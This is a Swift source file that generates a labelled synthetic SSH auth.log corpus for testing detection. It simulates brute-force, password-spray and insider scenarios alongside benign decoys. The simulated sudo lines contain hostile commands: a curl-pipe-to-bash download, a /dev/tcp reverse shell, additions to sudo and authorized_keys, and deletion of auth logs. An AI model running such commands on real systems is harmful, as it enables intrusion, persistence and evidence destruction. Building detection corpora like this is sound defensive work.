import VedetteEvent

/// Fourteen hours of four machines that passwords are guessed on, from one address and from many.
struct InfrastructureSSH {
  private let seed: UInt64
  private var chance: Chance
  private var log: AuthLog
  private var events = CorpusEvents()

  private static let hosts = ["bastion01", "web01", "web02", "db01"]
  private static let first = EventTime.at(8, 0)
  private static let last = EventTime.at(22, 0)

  init(seed: UInt64) {
    self.seed = seed
    chance = Chance(seed: seed, stream: "ssh corpus")
    log = AuthLog(chance: Chance(seed: seed, stream: "ssh corpus log"))
  }

  var corpus: AttackCorpus {
    var copy = self
    HostLife(hosts: Self.hosts, first: Self.first, last: Self.last).write(to: &copy.log, seed: seed)
    copy.writeArrivals()
    let addresses = copy.chance.addresses(6)
    copy.writeFast(on: "web01", from: addresses[0])
    copy.writeFast(on: "web02", from: addresses[1])
    copy.writeSlow(from: addresses[2])
    copy.writeSpray(from: addresses[3])
    copy.writeDistributed()
    copy.writeInsiders()
    copy.writeGuessesBehindOffice()
    for _ in 0..<4 { copy.writeForgotten() }
    copy.writeOfficeMorning(of: People.staff.prefix(copy.chance.integer(in: 4...6)))
    copy.writeOfficeMorning(of: People.staff.suffix(copy.chance.integer(in: 4...6)))
    copy.writeBatchJob()
    copy.log.label = nil
    return AttackCorpus(
      name: "ssh-\(seed)",
      files: [copy.log.timeline.file("auth.log")],
      events: copy.events.all
    )
  }

  /// People arrive at the office in the first hour and log in.
  private mutating func writeArrivals() {
    for user in People.staff {
      let time = Self.first.plus(seconds: chance.integer(in: 60...2_700))
      let login = SSHLogin(
        user: user,
        host: chance.pick(Self.hosts),
        address: People.office,
        keyFingerprint: People.fingerprint(of: user)
      )
      log.session(login, from: time, to: time.plus(minutes: chance.integer(in: 5...40)))
    }
  }

  /// Quick guesses from one address; now and then one fits.
  private mutating func writeFast(on host: String, from address: String) {
    log.label = events.attack(
      "fast brute force",
      by: [.address(address)],
      ["T1110", "T1110.001"]
    )
    var time = chance.start(toHour: 19)
    let names = ["root", "admin", "deploy", "ubuntu", "test", "git"]
    for _ in 0..<chance.integer(in: 40...160) {
      let name = chance.pick(names)
      log.refusedPassword(
        SSHLogin(user: name, host: host, address: address),
        isKnown: name == "root" || name == "deploy",
        at: time
      )
      time = time.plus(milliseconds: chance.integer(in: 2_000...9_000))
    }
    guard chance.happens(percent: 60) else { return }
    writeIntrusion(SSHLogin(user: "deploy", host: host, address: address), from: time)
  }

  private mutating func writeIntrusion(_ login: SSHLogin, from start: EventTime) {
    log.session(login, from: start, to: start.plus(minutes: 14))
    let commands = [
      "/usr/bin/id", "/usr/bin/bash -c curl -fsSL http://203.0.113.5/i.sh | bash",
      "/usr/sbin/usermod -aG sudo \(login.user)", "/usr/bin/rm -f /var/log/auth.log.1",
    ]
    for (index, command) in commands.enumerated() {
      log.sudo(command, by: login.user, on: login.host, at: start.plus(seconds: 70 + index * 130))
    }
  }

  /// A guess every few minutes, for hours.
  private mutating func writeSlow(from address: String) {
    log.label = events.attack("slow brute force", by: [.address(address)], ["T1110", "T1110.001"])
    let host = chance.pick(Self.hosts)
    var time = chance.start(toHour: 11)
    for _ in 0..<chance.integer(in: 24...50) {
      let name = chance.pick(["root", "admin", "postgres", "backup"])
      log.refusedPassword(
        SSHLogin(user: name, host: host, address: address),
        isKnown: name == "root",
        at: time
      )
      time = time.plus(seconds: chance.integer(in: 300...900))
    }
  }

  /// One password for many names.
  private mutating func writeSpray(from address: String) {
    log.label = events.attack("password spray", by: [.address(address)], ["T1110", "T1110.003"])
    var time = chance.start(toHour: 20)
    for login in People.remote.prefix(chance.integer(in: 16...34)) {
      log.refusedPassword(
        SSHLogin(user: login.user, host: "bastion01", address: address),
        isKnown: true,
        at: time
      )
      time = time.plus(seconds: chance.integer(in: 20...90))
    }
  }

  /// Few guesses from each of many addresses, at one or two names.
  private mutating func writeDistributed() {
    let addresses = chance.herd(chance.integer(in: 24...70))
    log.label = events.attack(
      "distributed brute force",
      by: addresses.map(EntityKey.address),
      ["T1110", "T1110.001"]
    )
    let host = "bastion01"
    let names = chance.happens(percent: 50) ? ["deploy"] : ["deploy", "root", "oracle"]
    var time = chance.start(toHour: 19)
    let guesses = chance.integer(in: 2...6)
    for round in 0..<guesses {
      for address in addresses {
        let name = names[(round + addresses.count) % names.count]
        log.refusedPassword(
          SSHLogin(user: name, host: host, address: address),
          isKnown: name != "oracle",
          at: time
        )
        time = time.plus(seconds: chance.integer(in: 2...14))
      }
    }
  }

  /// Two people at the office misuse their accounts at the same time, on different machines.
  private mutating func writeInsiders() {
    let start = chance.start(toHour: 20)
    let plans: [(user: String, host: String, commands: [String])] = [
      (
        "goran", "db01",
        [
          "/usr/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
          "/usr/bin/tee -a /root/.ssh/authorized_keys",
        ]
      ),
      (
        "ines", "web02",
        ["/usr/sbin/usermod -aG sudo ines", "/usr/bin/rm -f /var/log/auth.log.1"]
      ),
    ]
    for plan in plans {
      log.label = events.attack(
        "misuse behind one office address",
        by: [.account(plan.user)],
        ["T1059.004", "T1098.004", "T1098.007", "T1070.002", "T1070.003", "T1070.004", "T1098"]
      )
      let login = SSHLogin(
        user: plan.user,
        host: plan.host,
        address: People.office,
        keyFingerprint: People.fingerprint(of: plan.user)
      )
      log.session(login, from: start, to: start.plus(minutes: 25))
      for (index, command) in plan.commands.enumerated() {
        let time = start.plus(seconds: 140 + index * 400 + chance.integer(in: 0...90))
        log.sudo(command, by: plan.user, on: plan.host, at: time)
      }
    }
  }

  /// Two machines at the office guess passwords at the same time, each on a machine of its own.
  private mutating func writeGuessesBehindOffice() {
    let start = chance.start(toHour: 20)
    for (host, name) in [("web01", "deploy"), ("db01", "postgres")] {
      log.label = events.attack(
        "brute force behind one office address",
        by: [.address(People.office)],
        ["T1110", "T1110.001"]
      )
      var time = start.plus(seconds: chance.integer(in: 0...60))
      for _ in 0..<chance.integer(in: 30...60) {
        let login = SSHLogin(user: name, host: host, address: People.office)
        log.refusedPassword(login, isKnown: name == "deploy", at: time)
        time = time.plus(milliseconds: chance.integer(in: 2_000...9_000))
      }
    }
  }

  /// A person at home who gets the password wrong a few times.
  private mutating func writeForgotten() {
    log.label = events.decoy("forgotten password")
    let login = chance.pick(People.remote)
    var time = chance.start(toHour: 20)
    for _ in 0..<chance.integer(in: 2...4) {
      log.refusedPassword(login, isKnown: true, at: time)
      time = time.plus(seconds: chance.integer(in: 5...40))
    }
    log.session(login, from: time, to: time.plus(minutes: 9))
  }

  /// Several people behind the office's address who mistype in the same minutes.
  private mutating func writeOfficeMorning(of people: ArraySlice<String>) {
    log.label = events.decoy("office behind one address")
    let start = chance.start(toHour: 20)
    for user in people {
      let login = SSHLogin(user: user, host: "bastion01", address: People.office)
      var time = start.plus(seconds: chance.integer(in: 0...400))
      for _ in 0..<chance.integer(in: 1...3) {
        log.refusedPassword(login, isKnown: true, at: time)
        time = time.plus(seconds: chance.integer(in: 6...30))
      }
      log.session(login, from: time, to: time.plus(minutes: 20))
    }
  }

  /// A job that logs in to every machine again and again.
  private mutating func writeBatchJob() {
    log.label = events.decoy("batch job")
    var time = chance.start(toHour: 18)
    let login = SSHLogin(
      user: "backup",
      host: "db01",
      address: "192.0.2.15",
      keyFingerprint: People.fingerprint(of: "backup")
    )
    for index in 0..<90 {
      var one = login
      one.host = Self.hosts[index % Self.hosts.count]
      log.session(one, from: time, to: time.plus(seconds: 6))
      time = time.plus(seconds: chance.integer(in: 8...14))
    }
  }
}
